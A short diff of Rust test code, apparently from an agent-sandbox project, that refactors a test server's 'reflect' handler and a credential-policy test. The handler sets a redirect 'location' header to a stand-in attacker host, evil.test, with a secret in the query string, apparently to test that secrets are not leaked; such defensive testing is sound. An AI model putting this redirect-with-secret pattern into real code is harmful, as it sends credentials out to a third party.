@@ -164,7 +164,7 @@ async fn reflect(request: Request<Incoming>) -> Answer {
     headers.insert("x-echo", value.clone());
     headers.insert(
         "location",
-        format!("https://evil.test/?{}", SECRET).parse().unwrap(),
+        format!("https://evil.test/?{SECRET}").parse().unwrap(),
     );
     headers.insert("set-cookie", "session=abc".parse().unwrap());
     if request.uri().path() == "/gzip" {
@@ -234,7 +234,7 @@ async fn a_policy_that_could_add_two_credentials_is_not_used() {
         {"host": "*.example.test", "tls": "Inspect"},
     ]}}))
     .await;
-    harness.show("one", 11, Default::default());
+    harness.show("one", 11, agentsandbox_api::sandbox::Limits::default());
     let (answer, _) = harness.register("one", 11, &"a".repeat(64)).await;
     assert!(!answer.bound && answer.retry, "{answer:?}");
 }
